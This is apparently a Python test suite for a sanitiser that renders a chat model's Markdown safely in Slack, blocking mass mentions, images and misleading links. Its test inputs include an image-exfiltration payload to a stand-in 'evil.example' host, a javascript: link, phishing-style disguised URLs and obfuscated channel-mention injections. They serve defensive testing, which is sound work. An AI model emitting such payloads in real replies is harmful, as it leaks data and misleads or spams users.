"""What is shown of a model's words does nothing but be read, however they are written and cut."""

import html
import re
from collections.abc import Iterator

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.tree import SyntaxTreeNode

from bot.core.text import clean
from bot.rules.rendering import render, render_beginning
from bot.rules.rendering.guards import unlinked
from bot.rules.rendering.html import as_html
from bot.rules.rendering.links import host
from bot.rules.rendering.surfaces import Surface

OWN = "<@UASKER>"
UNSEEN = [  # or as good as: a mark stands on the letter before it
    *("\u00ad", "\u0301", "\u034f", "\u061c", "\u115f", "\u180b", "\u200b", "\u2028", "\u20dd"),
    *("\u2064", "\u2800", "\u3164", "\ufe0f", "\ufff9", "\U0001d173", "\U000e0100", "\\", " "),
]
SLACK = Surface(OWN)
PLAIN = Surface(
    OWN, shows_tables=False, has_names_that_call=True, has_long_fences=False, deepest_heading=3
)
SURFACES = st.sampled_from([SLACK, PLAIN])
LIVE = re.compile(
    r"<[\s\\\u200b]*(?:!(?:channel|here|everyone|group|subteam)|@[&\w])", re.IGNORECASE
)
ADDRESS = re.compile(r":\\?/\\?/|www\.", re.IGNORECASE)
_UNSEEN = re.compile("|".join(map(re.escape, UNSEEN)))

PIECES = [
    *("<", "<<", ">", "!", "@", "|", "&", ";", " ", "\\", "\u200b", "\n", "-", "a", "b c", "."),
    *("&lt;", "&lt", "&LT;", "&#60;", "&#x3C;", "&#0060", "&amp;", "&amp;lt;", "&amp;amp;lt;"),
    *("&#33;", "&excl;", "&commat;", "&#x40;", "amp;", "lt;", "#60;"),
    *("!channel", "!CHANNEL", "!Here", "!everyone", "!subteam^S1|@all", "@U123", "@UASKER", "@W1"),
    *("<!channel>", "<@U123>", OWN, "<!here|here>", "<!DOCTYPE html>", "<!-- x -->", "-->"),
    *("@channel", "`", "``", "```", "word ", "**", "*", "_", "~~", "$", "$$\n", "\\(", "\\)"),
    *("![", "![x](https://a.example/p.png)", "](", "\n```md\n", "\n```\n", "http://a.example"),
    *(":", "/", "://", "https:", "&colon;", "&#58;", "&sol;", "&#x2F;", "\\/", "www", "www.", ")"),
    *("\n\n", "\n- ", "\n  ", "\n    ", "\n> ", "\n1. ", "\n# ", "\n| a | b |\n|---|---|\n", "| "),
    *("[a](https://b.example/c)", "[", "]", "(", "[a]: https://b.example\n", "[a]", "\\[", "\\]"),
    *("<div>\n", "</div>\n", "<pre>", "<a title='", "'>", '"', "<https://b.example/x>", "\n===\n"),
    *("\n---\n", "\n~~~\n", "\n````\n", "  \n", "[b.example](https://c.example)", "\\`", "\\!"),
]
WORDS = st.lists(st.sampled_from(PIECES) | st.text(max_size=3), max_size=14).map("".join)
READERS = [
    MarkdownIt("commonmark", {"html": True}),
    MarkdownIt("commonmark", {"html": False}),
    MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"]),
]


def nodes(text: str) -> Iterator[SyntaxTreeNode]:
    """All that any reader of Markdown finds."""
    for reader in READERS:
        yield from SyntaxTreeNode(reader.parse(text)).walk()


def mentioned(text: str) -> set[str]:
    """Whom a text would mention, after any number of unescapings."""
    found: set[str] = set()
    for _ in range(5):
        found |= {match[0] for match in LIVE.finditer(text.replace(OWN, "own"))}
        text = html.unescape(text)
    return found


@settings(deadline=None)
@given(WORDS, SURFACES)
@example("<<!channel>!here>", SLACK)
@example("&amp;lt;!channel&amp;gt;", SLACK)
@example("<\\!channel>", SLACK)
@example("<&#33;channel>", SLACK)
@example("<<@UASKER>!channel>", SLACK)
@example("`<!channel>` and\n```\n<@U1>\n```", SLACK)
def test_nobody_is_mentioned_but_the_asker(text: str, surface: Surface) -> None:
    assert not mentioned(render(text, surface))


@pytest.mark.parametrize("unseen", UNSEEN)
@pytest.mark.parametrize("begin", ["<", "&lt;", "&amp;#x00000000003c;"])
@pytest.mark.parametrize(
    "sign", ["!here>", "!subteam^S1|x>", "@U1>", "@&1>", "&#000000000033;here>"]
)
def test_nothing_unseen_lets_a_mention_through(begin: str, unseen: str, sign: str) -> None:
    for text in (
        begin + unseen + sign,
        begin + unseen * 8 + sign,
        begin + f"{unseen}\u200b" * 20 + sign,
    ):
        for own in (text, f"`{text}`", f"| a |\n|---|\n| {text} |", f"[{text}](https://a.example)"):
            whole = render(own, PLAIN)
            assert not mentioned(_UNSEEN.sub("", whole))
            for cut in range(len(own)):
                assert whole.startswith(render_beginning(own[:cut], PLAIN))


@settings(deadline=None)
@given(WORDS, SURFACES)
@example("- first\n  ```\n![x](https://evil.example/?q=secret)", SLACK)
@example("    ```\n![x](https://a.example)", SLACK)
@example("1. a\n   ```\n![x](https://a.example)", SLACK)
@example("<div>\n```\n</div>\n\n![x](https://a.example)", SLACK)
@example("<!--\n\n```\n-->\n![x](https://a.example)", SLACK)
@example("para\n    ```\n![x](https://a.example)\n\n```\n![y](https://a.example)\n```", SLACK)
@example("````\n```\n![x](https://a.example)\n````", PLAIN)
@example('<a title="`">![x](https://a.example)`">', SLACK)
@example("![x][y]\n\n[y]: https://a.example", SLACK)
def test_no_reader_of_markdown_finds_an_image(text: str, surface: Surface) -> None:
    assert not [node for node in nodes(render(text, surface)) if node.type == "image"]


@settings(deadline=None)
@given(WORDS, SURFACES)
@example("[https://university.example/login](https://evil.example)", SLACK)
@example("[a](https://evil.example 'title')", SLACK)
@example("<https://evil.example|university.example>", SLACK)
@example(
    "[https://university.example@evil.example](https://university.example@evil.example)", SLACK
)
@example("[a]: https://evil.example\n\n[a]", SLACK)
@example("[a\nb]: https://evil.example\n\n[a b]", SLACK)
@example("[![a](https://b.example)](https://evil.example)", SLACK)
@example('<a title="`">[x](https://evil.example)`">', SLACK)
@example("\\[x\\](https://evil.example)", SLACK)
@example("[x](javascript:alert(1)) [y](//evil.example) [z](ftp://evil.example)", SLACK)
def test_every_link_shows_where_it_leads(text: str, surface: Surface) -> None:
    for node in nodes(render(text, surface)):
        if node.type == "link":
            name = host(str(node.attrs["href"]))
            assert name
            assert name in _said(node)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("<https://university.example@evil.example/x>", "<https://evil.example/x>"),
        (
            "<https://university.example:443@evil.example|it>",
            "[it (evil.example)](https://evil.example)",
        ),
        (
            "[a](https://a.example%2F@evil.example/@b)",
            "[a (evil.example)](https://evil.example/@b)",
        ),
        (
            "[a@b.example](mailto:a@b.example?bcc=c@evil.example)",
            "[a@b.example](mailto:a@b.example)",
        ),
        ("<mailto:a@b.example?cc=c@evil.example>", "<a@b.example>"),
        (
            "[apple.com](https://\u0430pple.com)",
            "[apple.com (xn--pple-43d.com)](https://xn--pple-43d.com)",
        ),
        ("[a.example](https:\\\\evil.example)", "a.example (https:%5Cevil.example)"),
        (
            "[a.example](<https://a.example\t.evil.example>)",
            "[a.example (a.example%09.evil.example)](https://a.example%09.evil.example)",
        ),
    ],
)
def test_no_address_hides_who_is_asked(text: str, shown: str) -> None:
    assert render(text, SLACK) == shown
    assert "university" not in as_html(text)


def _said(node: SyntaxTreeNode) -> str:
    return "".join(each.content for each in node.walk() if each.type != "inline")


@settings(deadline=None, max_examples=40)
@given(WORDS, SURFACES)
@example("a <!channel> b &amp;lt;&#33;here> c <@UASKER>", SLACK)
@example("```x ![a](http://a.example) `", SLACK)
@example("so\n\\[\na\n\\]\nthen $a$ or `b ` or [c](https://d.example) (d.example)", SLACK)
@example("- a\n- b\n\n  c\n  - d\n1. e\n2. f\n\n> g\nh\n\n| i |\n|---|\n| j |\nk\n", SLACK)
def test_what_is_shown_of_a_beginning_is_a_beginning_of_the_whole(
    text: str, surface: Surface
) -> None:
    whole, shown = render(text, surface), ""
    for cut in range(len(text) + 1):
        now = render_beginning(text[:cut], surface)
        assert now.startswith(shown)
        assert whole.startswith(now)
        assert not mentioned(now)
        assert unlinked(whole).startswith(unlinked(now))
        shown = now


@settings(deadline=None)
@given(WORDS)
@example("https:&#47;/a.example https&colon;//a.example https:\\/\\/a.example WWW.a.example")
def test_where_previews_cannot_be_forbidden_no_address_is_live(text: str) -> None:
    shown = unlinked(text)
    for _ in range(5):
        assert not ADDRESS.search(shown)
        shown = html.unescape(shown)


ORDINARY = [
    "Use `a < b && c > d`, and x <= y, 2 * 3 * 4, a_b_c, *em*, **strong**, ~~no~~, List<String>.",
    "# Title\n\n## Part\nwith **bold words** and a line  \nbroken\n\n---\n\nTom &amp; Ann, 5 %",
    "mail ann@example.com, or <@UASKER> is the one who asked, see <#C1|general>",
    "Points:\n- one\n- two\n  - three\n    more\n- four\n\n1. a\n2. b\n\n   c\n10. d",
    "```python\ndef f(a):\n\n    return a[0](1)\n```\nThen:\n````md\n```\nx\n```\n````",
    "> quoted\n> more\n\n| a | b |\n|---|--:|\n| `x\\|y` | **c** |",
    "Write:\n```md\n![it](https://a.example/b)\n<@U1\n```".replace("<@U1\n", ""),
    "It costs $5 or $10, arr[0] is the first [1], and see https://a.example/b?c=d&e=f",
    "[docs.example](https://docs.example/page) and <https://a.example/b>",
]


@pytest.mark.parametrize("text", ORDINARY)
def test_what_harms_nobody_stays_as_it_is(text: str) -> None:
    assert render(text, SLACK) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("see ![it](https://a.example/b)", "see [it (a.example)](https://a.example/b)"),
        ("[here](https://a.example/b)", "[here (a.example)](https://a.example/b)"),
        ("<https://a.example|here>", "[here (a.example)](https://a.example)"),
        ("[me](mailto:me@a.example)", "[me (me@a.example)](mailto:me@a.example)"),
        ("a \\(x^2 \\le \\frac{a+b}{c}\\)", "a `x^2 ≤ (a+b)/c`"),
        ("so\n\\[\n\\alpha \\nosuch{b}\n\\]", "so\n\n```\nα \\nosuch{b}\n```"),
        (
            "| n | v |\n|---|---|\n| π | 漢字 |\n| e | 2 |",
            "```\nn | v\n--+-----\nπ | 漢字\ne | 2\n```",
        ),
        ("#### Deep", "**Deep**"),
        ("a @everyone", "a @\u2060everyone"),
        ("````\n```\n````", "```\nˋˋˋ\n```"),
    ],
)
def test_what_a_place_cannot_show_becomes_what_it_can(text: str, shown: str) -> None:
    assert render(text, PLAIN) == shown


@pytest.mark.parametrize("text", ["x" * 30_000, "a\n" * 3000, "[" * 19_000, "*a " * 6_000])
def test_a_text_nobody_would_write_is_shown_all_the_same(text: str) -> None:
    assert "".join(render(text, SLACK).split()).count(text[0]) >= text.count(text[0]) - 1


@given(st.text(), SURFACES)
def test_no_mark_of_ours_is_left(text: str, surface: Surface) -> None:
    assert clean(render(text, surface)) == render(text, surface)
